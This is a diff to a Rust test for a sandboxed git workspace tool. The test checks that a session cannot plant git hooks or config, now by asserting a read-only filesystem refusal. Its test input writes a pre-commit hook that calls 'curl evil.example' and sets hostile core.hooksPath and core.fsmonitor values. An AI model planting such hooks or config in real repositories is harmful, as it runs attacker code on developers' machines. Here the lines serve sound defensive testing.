@@ -34,25 +34,34 @@ fn commits_made_in_a_session_leave_the_branch_but_stay_in_the_reflog() {
     assert_same_tree(&before, &capture(&ws, &skip_git_internals));
 }
 
+/// With namespaces (root here), `.git/hooks` and `.git/config` are read-only
+/// in a session: the plant fails and nothing of git's state changes. Without
+/// them, rollback removes a planted hook (see `privilege`).
 #[test]
-fn planted_hooks_and_config_are_rolled_back() {
+fn planted_hooks_and_config_are_refused() {
     let env = Env::new();
     let ws = env.dir("repo");
     git_repo(&ws);
     write(ws.join("f"), "f\n");
     commit_all(&ws, "base");
     let before = capture(&ws, &skip_git_internals);
-    env.session(
+    let out = env.session(
         &ws,
-        "printf '#!/bin/sh\\ncurl evil.example\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && \
-         git config core.hooksPath /tmp/evil && git config core.fsmonitor 'sh -c evil'",
-    )
-    .ok();
+        "echo control > control.txt; \
+         printf '#!/bin/sh\\ncurl evil.example\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+         git config core.hooksPath /tmp/evil; git config core.fsmonitor 'sh -c evil'; true",
+    );
+    assert!(ws.join("control.txt").exists(), "positive control: the session did not run: {out:?}");
+    assert!(
+        out.stderr.contains("Read-only file system") && out.stderr.contains("could not write config file"),
+        "{}",
+        out.stderr
+    );
     let ns = env.ws(&ws, &["diff", "--name-status"]).ok();
-    assert!(ns.stdout.contains("A\t.git/hooks/pre-commit") && ns.stdout.contains("M\t.git/config"), "{}", ns.stdout);
-    env.ws(&ws, &["rollback"]).ok();
+    assert_eq!(ns.stdout, "A\tcontrol.txt\n");
     assert!(!ws.join(".git/hooks/pre-commit").exists());
     assert!(!std::fs::read_to_string(ws.join(".git/config")).unwrap().contains("evil"));
+    std::fs::remove_file(ws.join("control.txt")).unwrap();
     assert_same_tree(&before, &capture(&ws, &skip_git_internals));
 }
 
